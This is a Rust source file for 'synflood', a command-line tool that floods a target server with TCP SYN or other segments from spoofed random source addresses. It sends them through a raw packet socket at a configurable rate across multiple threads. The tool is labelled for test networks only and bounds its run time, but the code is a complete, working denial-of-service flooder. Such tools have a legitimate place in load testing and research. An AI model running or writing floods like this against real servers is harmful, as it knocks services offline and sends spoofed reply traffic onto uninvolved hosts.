//! `synflood`: floods a server from random source addresses for a bounded time, through a packet socket that leaves the interface to the
//! kernel. The interface must be named.

use std::io;
use std::net::IpAddr;
use std::process::ExitCode;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use crate::flood_template::{self, FloodTemplate, Kind, Mac, Sources, Target};
use crate::interface::{neighbour, parse_mac};
use crate::pace::Pace;
use crate::raw::Sender;
use clap::Parser;

/// Frames per system call; more gains nothing.
const BATCH: u64 = 64;

/// Floods a server with segments from random source addresses
///
/// For test networks only: replies go to other hosts. Needs CAP_NET_RAW.
#[derive(Parser, Debug)]
#[command(name = "synflood", version)]
pub(crate) struct Arguments {
    /// The interface to send by
    #[arg(short, long)]
    interface: String,
    /// The target address, IPv4 or IPv6
    #[arg(long)]
    to: IpAddr,
    /// The target port
    #[arg(long, default_value_t = 80)]
    port: u16,
    /// The Ethernet destination; without it, that of an IPv4 neighbour is taken from the ARP table
    #[arg(long, value_parser = parse_mac)]
    to_mac: Option<Mac>,
    /// The Ethernet source, to which replies go; without it, the interface's own address
    #[arg(long, value_parser = parse_mac)]
    from_mac: Option<Mac>,
    /// The kind of segments
    #[arg(long, value_enum, default_value_t = Kind::Syn)]
    kind: Kind,
    /// The network of the source addresses, such as 192.0.2.0/24; without it, all public addresses
    #[arg(long)]
    from: Option<Sources>,
    /// Sends SYNs without options, 60 bytes on the wire
    #[arg(long)]
    bare: bool,
    /// Segments per second of all threads; without it, as fast as the kernel accepts them
    #[arg(long, value_parser = clap::value_parser!(u64).range(1..))]
    rate: Option<u64>,
    /// Duration, in seconds
    #[arg(long, default_value_t = 5, value_parser = clap::value_parser!(u64).range(1..=600))]
    seconds: u64,
    /// Number of sending threads
    #[arg(long, default_value_t = 1, value_parser = clap::value_parser!(u64).range(1..=64))]
    threads: u64,
    /// The seed of all random choices: the same seed makes the same flood
    #[arg(long)]
    seed: Option<u64>,
}

/// The counts of a thread.
#[derive(Clone, Copy, Default)]
struct Tally {
    sent: u64,
    /// How often the device was full.
    full: u64,
}

/// Parses the command line and runs the program.
pub fn main() -> ExitCode {
    match run(&Arguments::parse()) {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            eprintln!("synflood: {error}");
            ExitCode::FAILURE
        }
    }
}

fn run(arguments: &Arguments) -> Result<(), String> {
    let interface = &arguments.interface;
    let sources = arguments.from.unwrap_or(match arguments.to {
        IpAddr::V4(_) => Sources::ANY_V4,
        IpAddr::V6(_) => Sources::ANY_V6,
    });
    if sources.is_ipv4() != arguments.to.is_ipv4() {
        return Err("--from and --to are of different address families".into());
    }
    let open = || Sender::open(interface).map_err(|error| explain(interface, &error));
    let own_mac = open()?.mac(interface).map_err(|error| explain(interface, &error))?;
    let target = Target {
        address: arguments.to,
        port: arguments.port,
        mac: arguments.to_mac.or_else(|| neighbour(arguments.to, interface)).ok_or_else(|| {
            format!("no ARP entry for {} on {interface}; ping it first, or give --to-mac", arguments.to)
        })?,
        from_mac: arguments.from_mac.unwrap_or(own_mac),
        vlan: None,
    };
    let senders = (0..arguments.threads).map(|_| open()).collect::<Result<Vec<_>, _>>()?;

    let stop = Arc::new(AtomicBool::new(false));
    let on_signal = Arc::clone(&stop);
    ctrlc::set_handler(move || on_signal.store(true, Ordering::Relaxed)).map_err(|error| error.to_string())?;

    let seed = arguments.seed.unwrap_or_else(rand::random);
    let start = Instant::now();
    let until = Duration::from_secs(arguments.seconds);
    let rate = arguments.rate.map(|rate| rate as f64 / arguments.threads as f64);
    let tallies = thread::scope(|scope| {
        let threads: Vec<_> = (0u64..)
            .zip(&senders)
            .map(|(number, sender)| {
                let rng = flood_template::thread_rng(seed, number);
                let template = FloodTemplate::new(arguments.kind, target, sources, arguments.bare, rng);
                let stop = &stop;
                scope.spawn(move || flood(sender, template, Pace::new(rate, None, until), start, stop))
            })
            .collect();
        threads
            .into_iter()
            .map(|thread| thread.join().expect("a sender does not panic"))
            .collect::<io::Result<Vec<_>>>()
    })
    .map_err(|error| explain(interface, &error))?;

    let sent: u64 = tallies.iter().map(|tally| tally.sent).sum();
    let full: u64 = tallies.iter().map(|tally| tally.full).sum();
    let seconds = start.elapsed().as_secs_f64();
    println!("sent={sent} seconds={seconds:.3} kpps={:.1} device-full={full}", sent as f64 / seconds / 1e3);
    Ok(())
}

/// Sends as the schedule says, which begins at `start`, or until a signal.
fn flood(
    sender: &Sender,
    mut template: FloodTemplate,
    mut pace: Pace,
    start: Instant,
    stop: &AtomicBool,
) -> io::Result<Tally> {
    let len = template.frame_len();
    let mut frames = vec![0; len * BATCH as usize];
    let mut full = 0;
    loop {
        let now = start.elapsed();
        if pace.is_over(now) || stop.load(Ordering::Relaxed) {
            return Ok(Tally { sent: pace.total(), full });
        }
        let due = pace.due(now).min(BATCH);
        if due == 0 {
            // A sleep of less is no shorter, and one of more would overlook a signal.
            let next = pace.next().unwrap_or_default().saturating_sub(now);
            thread::sleep(next.clamp(Duration::from_micros(50), Duration::from_millis(100)));
            continue;
        }
        let batch = &mut frames[..len * due as usize];
        batch.chunks_exact_mut(len).for_each(|frame| template.stamp(frame));
        match sender.send(batch, len)? {
            0 => {
                full += 1;
                thread::yield_now();
            }
            sent => pace.made(sent as u64),
        }
    }
}

/// A line that says what is wrong and what to do.
fn explain(interface: &str, error: &io::Error) -> String {
    match error.raw_os_error() {
        Some(libc::EPERM | libc::EACCES) => "permission denied: packet sockets need root or CAP_NET_RAW".into(),
        Some(libc::ENODEV | libc::ENXIO) => format!("there is no interface `{interface}`"),
        Some(libc::ENETDOWN) => format!("`{interface}` is down; run: ip link set {interface} up"),
        _ => format!("{interface}: {error}"),
    }
}
